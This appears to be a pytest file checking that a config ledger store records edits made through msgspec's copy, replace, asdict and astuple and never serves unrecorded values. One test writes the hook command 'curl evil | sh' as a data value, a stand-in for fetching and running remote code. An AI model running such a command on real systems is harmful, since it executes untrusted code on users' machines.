"""An edit made through a C-level reader of `fn`'s config is recorded (review r6,
F5/F5b): `copy.copy(cfg)`, `msgspec.structs.replace`, `asdict` and `astuple` read the
copy's slots without its attribute hook; none of them may reach the view's own
instances, or the edit is dropped (appended=False, no error) and this process then
serves a value the ledger never recorded.
"""

from __future__ import annotations

import asyncio
import copy
import secrets
from pathlib import Path
from typing import Any

import msgspec
import pytest

from ledger import MemoryConfigStore
from ledger.engine.vault import KeySource
from ledger.stores.ledger_store import SqliteConfigStore

HOOKS = {"hooks": [{"name": "h", "command": "echo ok", "events": ["SessionStart"]}]}


def _via_copy(cfg: Any) -> Any:
    other = copy.copy(cfg)
    other.server.port = 1111
    return other


def _via_replace(cfg: Any) -> Any:
    other = msgspec.structs.replace(cfg, identity=cfg.identity)
    other.server.port = 2222
    return other


def _via_asdict(cfg: Any) -> None:
    msgspec.structs.asdict(cfg)["server"].port = 3333


def _via_astuple(cfg: Any) -> None:
    fields = type(cfg).__struct_fields__
    msgspec.structs.astuple(cfg)[fields.index("server")].port = 4444


def _via_root_map(cfg: Any) -> None:
    msgspec.structs.asdict(cfg)["env"]["NEW_VAR"] = "x"


@pytest.mark.parametrize(("fn", "port"), [(_via_copy, 1111), (_via_replace, 2222),
                                          (_via_asdict, 3333), (_via_astuple, 4444)])
def test_update_raw_records_an_edit_made_through_a_c_level_reader(fn: Any, port: int) -> None:
    async def run() -> tuple[bool, int, int]:
        store = MemoryConfigStore()
        await store.save_raw({"server": {"port": 13131}}, actor="a")
        await store.load_raw()  # the typed view exists: the fast path runs
        commit = await store.update_raw(fn, actor="a")
        doc = await store.raw_document()
        return commit.appended, (await store.load_raw()).server.port, doc["server"]["port"]

    assert asyncio.run(run()) == (True, port, port)


def test_a_root_map_edited_through_asdict_is_recorded() -> None:
    async def run() -> tuple[bool, Any]:
        store = MemoryConfigStore()
        await store.save_raw({"server": {"port": 1}}, actor="a")
        await store.load_raw()
        commit = await store.update_raw(_via_root_map, actor="a")
        return commit.appended, list((await store.raw_document()).get("env", {}))

    assert asyncio.run(run()) == (True, ["NEW_VAR"])  # (sealed: [env] holds secrets)


def test_the_typed_view_never_serves_an_edit_the_ledger_did_not_record(
        tmp_path: Path) -> None:
    key, db = secrets.token_bytes(32), tmp_path / "m.db"

    def fn(cfg: Any) -> None:
        msgspec.structs.asdict(cfg)["server"].port = 2222
        msgspec.structs.asdict(cfg)["hooks"].hooks[0].command = "curl evil | sh"

    async def run() -> tuple[Any, Any, bool]:
        store = SqliteConfigStore(db, keys=KeySource(key=key, env={}))
        try:
            await store.save_raw({"server": {"port": 13131}, "hooks": HOOKS}, actor="a")
            await store.update_raw(lambda c: setattr(c.identity, "name", "x"), actor="a")
            appended = (await store.update_raw(fn, actor="a")).appended
            here = await store.load_raw()
            # the next edit diffs against the view's values, which fn did not change
            await store.update_raw(lambda c: setattr(c.identity, "name", "y"), actor="a")
        finally:
            await store.close()
        fresh_store = SqliteConfigStore(db, keys=KeySource(key=key, env={}))
        try:
            fresh = await fresh_store.load_raw()
        finally:
            await fresh_store.close()
        return ((here.server.port, here.hooks.hooks[0].command),
                (fresh.server.port, fresh.hooks.hooks[0].command), appended)

    here, fresh, appended = asyncio.run(run())
    assert here == fresh == (2222, "curl evil | sh")
    assert appended


MODELS = {"models": {"m1": {"context_window": 1000}, "m2": {"context_window": 2000}}}


def _model_via_asdict(cfg: Any) -> None:
    msgspec.structs.asdict(cfg)["models"]["m1"].context_window = 1111


def _model_via_attribute(cfg: Any) -> None:
    cfg.models["m1"].context_window = 1111


def _model_added_and_removed(cfg: Any) -> None:
    models = msgspec.structs.astuple(cfg)[type(cfg).__struct_fields__.index("models")]
    models["m3"] = models.pop("m2")


@pytest.mark.parametrize(("fn", "expected"), [
    (_model_via_asdict, {"m1": 1111, "m2": 2000}),
    (_model_via_attribute, {"m1": 1111, "m2": 2000}),
    (_model_added_and_removed, {"m1": 1000, "m3": 2000}),
])
def test_a_root_map_of_sections_edited_any_way_is_recorded_and_the_view_kept(
        fn: Any, expected: dict[str, int]) -> None:
    """`[models]` is a root map of Structs: its copy is made per entry from the view's
    templates (`MapPlan`); an edit through it is recorded, and neither a later edit nor
    a caller holding the copy afterwards reaches the view."""
    kept: list[Any] = []

    def edit(cfg: Any) -> None:
        kept.append(cfg)
        fn(cfg)

    async def run() -> tuple[bool, dict[str, int], dict[str, int], dict[str, int]]:
        store = MemoryConfigStore()
        await store.save_raw({"server": {"port": 1}, **MODELS}, actor="a")
        await store.load_raw()
        commit = await store.update_raw(edit, actor="a")
        kept[0].models["m1"].context_window = 7  # after the write: the caller's own
        untouched = await store.update_raw(lambda c: setattr(c.server, "port", 2), actor="a")
        assert [c.path for c in untouched.changes] == [("server", "port")]
        raw = (await store.raw_document())["models"]
        typed = (await store.load_raw()).models
        return (commit.appended, {k: v["context_window"] for k, v in raw.items()},
                {k: v.context_window for k, v in typed.items()},
                {k: v["context_window"]
                 for k, v in store.ledger.replay().config["models"].items()})

    appended, raw, typed, replayed = asyncio.run(run())
    assert appended and raw == typed == replayed == expected
